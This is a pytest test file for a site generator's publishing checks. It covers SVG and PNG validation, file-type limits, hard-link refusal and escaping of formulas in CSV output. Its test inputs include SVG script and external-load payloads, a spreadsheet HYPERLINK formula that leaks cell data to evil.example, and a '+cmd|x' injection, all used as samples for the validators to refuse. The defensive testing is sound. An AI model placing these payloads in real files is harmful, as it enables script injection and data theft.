"""What docs/ may publish as it is: Markdown pages, and campaign files that cannot run
anything on the site's address; and open data that a spreadsheet cannot run either."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import os
from pathlib import Path

import pytest

from hooks.sitegen import model as m
from hooks.sitegen.load import load_site
from hooks.sitegen.opendata import as_csv
from hooks.sitegen.problems import DataProblems
from tests.datafiles import copy_data

FILES = "docs/materiales/files"
TODAY = dt.date(2026, 12, 1)
PLAIN = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">\n<rect width="10" height="10"/>\n</svg>\n'


@pytest.fixture(scope="module")
def tree(tmp_path_factory) -> Path:
    return copy_data(tmp_path_factory.mktemp("published"))


def problems_with(tree: Path, rel: str, content: bytes | str) -> list:
    path = tree / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    try:
        with pytest.raises(DataProblems) as caught:
            load_site(tree, TODAY)
        return caught.value.problems
    finally:
        path.unlink()


def test_the_real_campaign_files_are_plain(tree):
    assert load_site(tree, TODAY).materials  # every SVG there passes the check below


@pytest.mark.parametrize("svg, line, words", [
    (PLAIN.replace("<rect", '<script>alert(document.domain)</script>\n<rect'), 2, "<script> element"),
    (PLAIN.replace("<rect ", '<rect onload="alert(1)" '), 2, "attribute 'onload' runs code"),
    (PLAIN.replace("<rect", '<image href="https://evil.example/track.png"/>\n<rect'), 2, "<image> element"),
    (PLAIN.replace("<rect", '<use href="https://evil.example/x.svg#a"/>\n<rect'), 2, "links to 'https://evil.example"),
    (PLAIN.replace("<rect", '<script href="helper.js"/>\n<rect'), 2, "<script> element"),
    (PLAIN.replace("<rect", '<style>@import url(https://evil.example/x.css);</style>\n<rect'), 2, "<style> element"),
    (PLAIN.replace("<rect ", '<rect fill="url(https://evil.example/p)" '), 2, "attribute 'fill' loads"),
    (PLAIN.replace("<rect", '<foreignObject><iframe src="https://evil.example"/></foreignObject>\n<rect'), 2,
     "<foreignObject> element"),
    ('<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "aaaa">]>\n' + PLAIN, 2, "DOCTYPE"),
    (PLAIN.replace("</svg>", "<rect"), 3, "not a readable SVG"),
])
def test_an_svg_that_is_more_than_a_drawing_is_refused_at_its_line(tree, svg, line, words):
    rel = f"{FILES}/derechos-prueba-vih-miniatura.svg"
    original = (tree / rel).read_bytes()
    try:
        problems = problems_with(tree, rel, svg)
    finally:
        (tree / rel).write_bytes(original)
    assert [(p.file, p.line) for p in problems] == [(rel, line)]
    assert words in problems[0].message_en and problems[0].message_es


def _png(width: int, height: int) -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    pixels = zlib.compress(b"".join(b"\x00" + b"\x00" * 3 * width for _ in range(height)))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))


def test_a_real_png_is_published(tree):
    rel = f"{FILES}/extra-imagen.png"
    (tree / rel).write_bytes(_png(4, 3))
    try:
        load_site(tree, TODAY)
    finally:
        (tree / rel).unlink()


@pytest.mark.parametrize("content, words", [
    (PLAIN.encode(), "is not a PNG image"),
    (b"\x89PNG\r\n\x1a\n" + b"\x00" * 40, "is not a PNG image"),
    (_png(4, 3)[:-12], "cut short"),
    (_png(9000, 1), "9000 × 1 pixels"),
])
def test_a_file_named_png_that_is_not_a_sound_png_is_refused(tree, content, words):
    rel = f"{FILES}/tarjeta-prueba-vih-es.png"
    original = (tree / rel).read_bytes()
    try:
        problems = problems_with(tree, rel, content)
    finally:
        (tree / rel).write_bytes(original)
    assert any(p.file == rel and words in p.message_en for p in problems), problems


def test_local_references_inside_an_svg_are_fine(tree):
    rel = f"{FILES}/extra-dibujo.svg"
    svg = PLAIN.replace("<rect", '<defs><linearGradient id="g"/></defs>\n<use href="#g"/>\n<rect fill="url(#g)"')
    (tree / rel).write_text(svg, encoding="utf-8")
    try:
        load_site(tree, TODAY)
    finally:
        (tree / rel).unlink()


@pytest.mark.parametrize("rel, words", [
    (f"{FILES}/helper.js", "does not publish '.js' files"),
    (f"{FILES}/pagina.html", "does not publish '.html' files"),
    ("docs/es/trampa.html", "docs/ holds only Markdown pages"),
    ("docs/assets/x.js", "docs/ holds only Markdown pages"),
])
def test_docs_publishes_only_pages_and_campaign_files(tree, rel, words):
    problems = problems_with(tree, rel, "alert(1)")
    assert [(p.file, p.line) for p in problems] == [(rel, 1)]
    assert words in problems[0].message_en


def test_a_hard_link_is_refused(tree, tmp_path):
    outside = tmp_path / "secret.txt"
    outside.write_text("secret", encoding="utf-8")
    rel = f"{FILES}/folleto-violencia-es.pdf"
    original = tmp_path / "original.pdf"
    os.replace(tree / rel, original)
    try:
        os.link(outside, tree / rel)
        with pytest.raises(DataProblems) as caught:
            load_site(tree, TODAY)
    finally:
        (tree / rel).unlink()
        os.replace(original, tree / rel)
    assert [(p.file, p.line) for p in caught.value.problems] == [(rel, 1)]
    assert "hard link" in caught.value.problems[0].message_en


def test_open_data_csv_keeps_formulas_as_text(tree):
    site = load_site(tree, TODAY)
    country = site.countries[0]
    indicator = site.catalogue.indicators[0].id
    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Ver fuente")'
    answer = dataclasses.replace(country.answers[indicator], note=m.Text(formula, "+cmd|x", "@SUM(1+1)"))
    hostile = dataclasses.replace(country, answers={**country.answers, indicator: answer})
    rows = list(csv.DictReader(io.StringIO(as_csv(dataclasses.replace(site, countries=(hostile,))))))
    row = next(r for r in rows if r["indicator"] == indicator)
    assert (row["note_es"], row["note_en"], row["note_pt"]) == ("'" + formula, "'+cmd|x", "'@SUM(1+1)")
    assert all(not cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())
